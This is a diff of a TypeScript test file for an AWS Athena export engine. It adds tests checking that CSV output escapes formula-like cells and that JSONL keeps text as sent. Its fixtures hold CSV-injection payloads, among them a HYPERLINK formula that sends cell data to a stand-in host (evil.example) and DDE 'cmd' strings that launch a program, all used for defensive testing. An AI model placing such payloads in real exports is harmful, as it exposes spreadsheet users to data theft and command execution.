@@ -2,8 +2,10 @@ import type { AthenaClient } from '@aws-sdk/client-athena';
 import { S3Client } from '@aws-sdk/client-s3';
 import { Readable } from 'node:stream';
 import { describe, expect, it } from 'vitest';
-import { AthenaExportEngine, csvField, jsonLine } from '../../shared/adapters/athena-export-engine.js';
-import { EXPORT_COLUMNS, parseExportRequest, type ExportJob } from '../../shared/domain/exports.js';
+import { parse } from 'csv-parse/sync';
+import { formatResult } from '../../infra/local/athena.js';
+import { AthenaExportEngine, jsonLine } from '../../shared/adapters/athena-export-engine.js';
+import { csvCell, csvField, EXPORT_COLUMNS, parseExportRequest, type ExportJob } from '../../shared/domain/exports.js';
 
 /**
  * The AWS export engine's own logic against a stand-in for Athena and S3 (neither has a local engine; the local
@@ -131,7 +133,47 @@ describe('the AWS export engine', () => {
     expect(objects.get('exports/org_1/ex_1.parquet')!.toString()).toBe('PAR1…PAR1');
   });
 
+  it("CSV: a text cell that begins like a formula (=, +, -, @, tab, CR) gets a leading ', numbers do not; JSONL keeps the text as it is", async () => {
+    const hostile: Record<string, string> = {
+      lead_id: '=HYPERLINK("http://evil.example/?"&A1,"Click")', reason: '+cmd|\' /C calc\'!A0', flow_id: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      step_id: '-2+3+cmd|\' /C calc\'!A0', entity_id: '\t=1+1', object_id: '\r=1+1', source: 'web', currency: "'already",
+      payload: '{"hidden":"=1+1"}', amount: '-5.0', price: '-0.5', duration_ms: '12.0', cost: '',
+    };
+    const athenaRow = EXPORT_COLUMNS.map((c) => (c === 'id' ? 'e1' : hostile[c] ?? '')).map((v) => `"${v.replace(/"/g, '""')}"`).join(',');
+    for (const format of ['csv', 'jsonl'] as const) {
+      const { athena, s3, objects } = cloud({ '2026-11-01': `${header}\n${athenaRow}\n` });
+      const engine = new AthenaExportEngine(athena, s3, { bucket: 'exports', database: 'leadlog_dev', workGroup: 'wg', pollMs: 1 });
+      const j = job(format);
+      await engine.writeDay(j, '2026-11-01');
+      await engine.finish(j);
+      const file = objects.get(`exports/org_1/ex_1.${format}`)!.toString('utf8');
+      if (format === 'csv') {
+        const [record] = parse(file, { columns: true }) as Record<string, string>[];
+        for (const column of ['lead_id', 'reason', 'flow_id', 'step_id', 'entity_id', 'object_id']) expect(record![column], column).toBe(`'${hostile[column]}`);
+        expect(record).toMatchObject({ source: 'web', currency: "'already", payload: '{"hidden":"=1+1"}', amount: '-5.0', price: '-0.5', duration_ms: '12.0', cost: '' });
+      } else {
+        // JSONL is not read by spreadsheets: values stay exactly as sent.
+        expect(JSON.parse(file)).toMatchObject({ lead_id: hostile.lead_id, step_id: hostile.step_id, amount: -5 });
+      }
+    }
+  });
+
+  it("npm run athena -- --format csv: the same rule, number-typed columns exempt whatever their text", () => {
+    const csv = formatResult({
+      columns: ['lead_id', 'reason', 'revenue', 'n'],
+      rows: [{ lead_id: '=HYPERLINK("http://evil.example")', reason: '\t@SUM(1)', revenue: '-5.00', n: -2 }, { lead_id: 'lead_1', reason: 'a, b', revenue: '3.50', n: 1 }],
+      numeric: [false, false, true, true],
+    }, 'csv');
+    expect(parse(csv, { columns: true })).toEqual([
+      { lead_id: `'=HYPERLINK("http://evil.example")`, reason: "'\t@SUM(1)", revenue: '-5.00', n: '-2' },
+      { lead_id: 'lead_1', reason: 'a, b', revenue: '3.50', n: '1' },
+    ]);
+  });
+
   it('writes CSV fields and JSON lines by the rules', () => {
+    expect(csvCell('=1+1')).toBe("'=1+1");
+    expect(csvCell('')).toBe('');
+    expect(csvCell('a=1')).toBe('a=1');
     expect(csvField('plain')).toBe('plain');
     expect(csvField('a,b')).toBe('"a,b"');
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
